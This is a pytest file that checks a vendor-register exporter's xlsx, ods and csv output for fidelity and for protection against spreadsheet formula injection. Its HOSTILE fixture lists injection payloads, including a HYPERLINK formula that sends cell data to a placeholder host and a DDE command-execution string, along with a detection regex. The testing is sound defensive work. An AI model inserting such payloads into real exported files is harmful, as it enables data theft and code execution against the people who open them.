"""Every table in every format says what the register says, and no cell of text is a formula."""

from __future__ import annotations

import re
import shutil
import subprocess
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest

from tests.exports.reading import READERS, cells, expected
from vendorbook.exports import Column, Export, Kind, Table, writer
from vendorbook.exports.cells import seen
from vendorbook.model import Text

HOSTILE = (
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "＝1+1",
    " =1+1",
    "\u3000=1+1",
    "-1+1",
    "+1",
    "@SUM(A1)",
    "＠SUM(A1)",
    "'=1+1",
    "'",
    "=cmd|'/C calc'!A0",
    "{=1+1}",
    "_x0041_",
    "a  b   c ",
    "two\nlines\n",
    "\n=1+1",
    "a\tb",
    '"quoted", and; so on',
    "<b>&amp;</b> ]]>",
    "2026-01-05",
    "0123",
    "1e5",
    "TRUE",
    "#REF!",
    "許功蓋 𠮷 İı",
    "x" * 40_000,
    "\x1b[2J\x00\ufffe\u202e",
    "https://example.invalid/",
)


@pytest.fixture(scope="module")
def hostile(everything: object) -> Export:
    """A register in which nothing but such texts stands."""
    columns = (
        Column("=name", Text("=1+1", "=1+1")),
        Column("both", Text("@a", "@a"), Kind.BOTH),
        Column("list", Text("表", "x"), Kind.LIST),
    )
    rows = [(each, Text(each, each), (each, each)) for each in HOSTILE if each[:1] != "x" or len(each) < 99]
    made = Export(everything, "zh-TW")  # type: ignore[arg-type]
    made.__dict__["tables"] = [seen(Table("hostile", Text("=1+1 [x]:*?/\\'", "=1+1"), columns, rows))]
    return made


@pytest.mark.parametrize("format", READERS)
def test_all_values_of_all_tables_are_there(format: str, export: Export) -> None:
    read = READERS[format](writer(format).files(export), export)

    assert list(read) == [table.name for table in export.tables] or format in ("csv", "parquet")
    for table in export.tables:
        assert read[table.name] == expected(table, export, format), table.name
    assert sum(len(table.rows) for table in export.tables) > 5000


@pytest.mark.parametrize("format", READERS)
def test_hostile_text_is_shown_as_it_is(format: str, hostile: Export) -> None:
    read = READERS[format](writer(format).files(hostile), hostile)["hostile"]
    assert read == expected(hostile.tables[0], hostile, format)


def test_what_cannot_be_seen_is_named(hostile: Export) -> None:
    assert "<U+001B>[2J<U+0000><U+FFFE><U+202E>" in cells(hostile.tables[0].rows)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(hostile: Export, export: Export) -> None:
    from openpyxl import load_workbook

    for each in (hostile, export):
        data = writer("xlsx").files(each)[""]
        types = {cell.data_type for sheet in load_workbook(BytesIO(data)) for row in sheet.iter_rows() for cell in row}
        assert types <= {"s", "n", "d", "b"}
        parts = {name: ZipFile(BytesIO(data)).read(name) for name in ZipFile(BytesIO(data)).namelist()}
        assert not any(re.search(rb"<f[ >]|<hyperlink", part) for part in parts.values())


def test_no_cell_of_an_open_document_is_a_formula_or_a_link(hostile: Export, export: Export) -> None:
    for each in (hostile, export):
        content = ZipFile(BytesIO(writer("ods").files(each)[""])).read("content.xml")
        assert b"office:value-type" in content
        assert b"table:formula" not in content
        assert b"<text:a" not in content


def test_no_text_in_csv_begins_as_a_formula_does(hostile: Export) -> None:
    import csv

    text = writer("csv").files(hostile)["hostile.csv"].decode()
    found = [cell for line in list(csv.reader(text.splitlines(keepends=True)))[1:] for cell in line]
    assert [cell for cell in found if re.match(r"[\s\x00]*[=+\-@＝＋－＠]", cell)] == []
    assert text.count("\r\n") >= len(hostile.tables[0].rows)


def test_a_negative_number_in_csv_stays_a_number(everything: object) -> None:
    made = Export(everything, "en")  # type: ignore[arg-type]
    made.__dict__["tables"] = [Table("x", Text("x", "x"), (Column("n", Text("n", "n"), Kind.COUNT),), [(-3,)])]
    assert writer("csv").files(made)["x.csv"] == b"n\r\n-3\r\n"


def test_a_bom_only_where_it_is_asked_for(everything: object) -> None:
    for bom in (False, True):
        files = writer("csv").files(Export(everything, "en", bom=bom))  # type: ignore[arg-type]
        assert all(data.startswith(b"\xef\xbb\xbf") is bom for data in files.values())


@pytest.mark.parametrize("format", ["xlsx", "ods"])
def test_what_no_cell_can_hold_is_cut_and_says_so(format: str, everything: object) -> None:
    made = Export(everything, "en")  # type: ignore[arg-type]
    columns = (Column("x", Text("x", "x")),)
    made.__dict__["tables"] = [Table("x", Text("x", "x"), columns, [("長𠮷" * 20_000,)])]
    ((cell,),) = READERS[format](writer(format).files(made), made)["x"]
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert cell.endswith("(too long; JSON has all of it)")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed: nothing was opened with it")
@pytest.mark.parametrize("format", ["xlsx", "ods"])
def test_libreoffice_shows_the_same(format: str, hostile: Export, tmp_path: Path) -> None:
    """The third column would show a list's parts: joined, they begin with the same signs."""
    import csv

    file = tmp_path / f"hostile.{format}"
    file.write_bytes(writer(format).files(hostile)[""])
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    options = 'csv:"Text - txt - csv (StarCalc)":44,34,76,1,,0,false,true,false'.replace('"', "")
    command = ["soffice", profile, "--headless", "--convert-to", options, "--outdir", str(tmp_path), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    shown = list(csv.reader((tmp_path / "hostile.csv").open(encoding="utf-8", newline="")))
    assert shown[0] == ["=1+1", "@a", "表"]
    assert shown[1:] == [[cell or "" for cell in row] for row in expected(hostile.tables[0], hostile, format)]
